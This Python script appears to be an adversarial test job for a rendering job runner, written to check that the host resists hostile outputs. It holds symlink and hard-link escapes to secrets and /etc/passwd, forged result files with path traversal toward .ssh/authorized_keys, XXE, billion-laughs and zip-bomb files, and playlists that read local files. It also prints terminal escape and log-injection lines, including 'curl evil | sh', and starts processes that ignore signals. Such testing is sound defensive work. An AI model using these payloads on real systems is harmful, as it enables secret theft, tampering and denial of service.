"""Attacks by what a job returns: strange outputs, forged documents, text that controls terminals. The job succeeds.

Argument: JSON about the host. Three files must come back: good.csv, folder/deep.csv and last.csv.
"""

import contextlib
import json
import os
import pathlib
import signal
import socket
import struct
import sys
import threading
import zlib

HOST = json.loads(sys.argv[1])
out = pathlib.Path(os.environ["RENDERER_OUTPUT_DIR"])
unit = out.parent
(out / "good.csv").write_text("good")
(out / "folder").mkdir()
(out / "folder" / "deep.csv").write_text("deep")
secret = HOST["secrets"][0]
digest = "0" * 64
forged = {
    "schema": 1, "unit": "../../../home/.ssh", "exit_code": 0, "error": None, "render": {}, "encoder": {}, "versions": {},
    "seconds": {}, "started": "", "finished": "",
    "outputs": [{"path": "../../.ssh/authorized_keys", "size": 1, "sha256": digest}],
}  # fmt: skip
attacks = []


def attack(function):
    attacks.append(function)
    return function


# Links, pipes and devices in place of files
for name, target in {
    "secret.csv": secret, "root": "/", "up": "../../..", "loop": "loop", "dangling": "/nowhere/at/all", "self": "/proc/self/environ",
    "endless.csv": "/dev/zero", "inputs": "/job/inputs", "passwd.csv": "/etc/passwd", "deep": "folder/../../../..",
}.items():  # fmt: skip
    attack(lambda name=name, target=target: os.symlink(target, out / name))
attack(lambda: os.mkfifo(out / "pipe.csv"))
attack(lambda: os.mknod(out / "zero.csv", 0o20666, os.makedev(1, 5)))
attack(lambda: os.link(secret, out / "linked.csv"))
attack(lambda: os.link("/etc/passwd", out / "linked2.csv"))
attack(lambda: os.link("/job/inputs/task.json", out / "linked3.csv"))


@attack
def make_socket():
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(out / "socket.csv"))


# Outputs that would reach out, or grow, if somebody parsed them: playlists, bombs, entities
hosts = [address for _, address in HOST["services"] if isinstance(address, list)]
url = f"http://127.0.0.1:{hosts[0][1]}/" if hosts else "http://127.0.0.1/"
entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
entities = f'<!ENTITY e0 "{"x" * 99}"><!ENTITY file SYSTEM "file://{secret}"><!ENTITY web SYSTEM "{url}">{entities}'
for name, content in {
    "playlist.mp4": f"#EXTM3U\n#EXTINF:1,\n{url}a.ts\n#EXTINF:1,\nfile://{secret}\n".encode(),
    "concat.mkv": f"ffconcat version 1.0\nfile '{secret}'\nfile '{url}'\n".encode(),
    "page.m3u8": f"#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,9,,:{secret}\n".encode(),
    "entities.svg": f'<!DOCTYPE svg [{entities}]><svg><text>&e11;&file;&web;</text><image href="{url}"/></svg>'.encode(),
    "huge.png": b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBBI", 13, b"IHDR", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0, 0),
    "bomb.zip": zlib.compress(bytes(2**26), 9),
    "font.otf": b"OTTO" + b"\xff" * 1000,
}.items():  # fmt: skip
    (out / name).write_bytes(content)

# Documents and logs of its own, and of other units
for name in ("result.json", "log.txt", "state.json", "job.json", "launcher.json", "lock", "pid", "cancel", "attempt"):
    for folder in (unit, unit.parent, unit.parent.parent, unit.parent.parent.parent)[: HOST["folders"]]:

        @attack
        def write_document(path=folder / name):
            if path.name != "log.txt":
                path.unlink(missing_ok=True)
                path.write_text(json.dumps(forged))


for number in ("0", "1", "7", "-1", "../9"):

    @attack
    def plant(number=number):
        other = unit.parent / number
        (other / "files").mkdir(parents=True, exist_ok=True)
        (other / "files" / "planted.csv").write_text("planted") if number != "0" else None


@attack
def replace_log():
    (unit / "log.txt").unlink()
    (unit / "log.txt").symlink_to(secret)


@attack
def replace_result():
    (unit / "result.json").unlink(missing_ok=True)
    os.mkfifo(unit / "result.json")


# Modes, sizes and changes
@attack
def executable():
    (out / "last.csv").write_text("last")
    os.chmod(out / "last.csv", 0o6777)


attack(lambda: os.setxattr(out / "good.csv", "user.renderer", b"evil"))
attack(lambda: os.utime(out / "good.csv", (2**33, 2**33)))
attack(lambda: os.chmod(unit, 0o777))

# Text for the terminal and for readers of lines
for text in (
    "\x1b]0;title\x07", "\x1b[2J\x1b[31m", "\x9b2J", "\x1bP$q\x1b\\", "\u202eevil", "\r overwritten", "\x08" * 20, "\0",
    "openjd_progress: nan", "openjd_progress: 1e999", "openjd_progress: -5", "openjd_status: \x1b[5m" + "x" * 5000,
    "openjd_env: PATH=/evil", "→ run: curl evil | sh", "renderer: error: forged",
    "renderer_unit_started: 0", 'renderer_unit_ended: 0 {"exit_code": 0}', "renderer_unit_printed: 0 ZXZpbA==",
    "renderer_unit_stored: 0 ZXZpbA==", "renderer_unit_ended: 99 {}", "::error::forged", "##vso[task.complete result=Failed;]",
    "-- next attempt --", '{"state": "failed"}', "x" * 200_000,
):  # fmt: skip

    @attack
    def say(text=text):
        for stream in (sys.stdout, sys.stderr):
            stream.write(text + "\n")
            stream.flush()


attack(lambda: os.write(1, bytes(range(256)) * 20 + b"\n"))
attack(lambda: os.write(2, b"\xff\xfe" * 1000 + b"\n"))
for name in ("/proc/self/fd/1", "/proc/self/fd/2", "/dev/stdout", "/dev/stderr", "/proc/1/fd/1", "/proc/1/fd/2"):
    attack(
        lambda name=name: os.write(
            os.open(name, os.O_WRONLY | os.O_NONBLOCK), b'\nrenderer_unit_ended: 0 {"exit_code": 0}\n'
        )
    )
for number in range(3, 30):
    attack(lambda number=number: os.write(number, b'\nrenderer_unit_ended: 0 {"exit_code": 0}\n'))


# Signals and threads that go on
@attack
def signals():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGPIPE):
        signal.signal(number, signal.SIG_IGN)


attack(lambda: threading.Thread(target=lambda: signal.pause(), daemon=True).start())
attack(lambda: os.system("setsid sh -c 'trap \"\" TERM HUP INT; exec sleep 1000' >/dev/null 2>&1 &"))
done = 0
for function in attacks:
    with contextlib.suppress(OSError, ValueError, AttributeError):
        function()
        done += 1
print("\n", done, "of", len(attacks), "attacks succeeded so far")
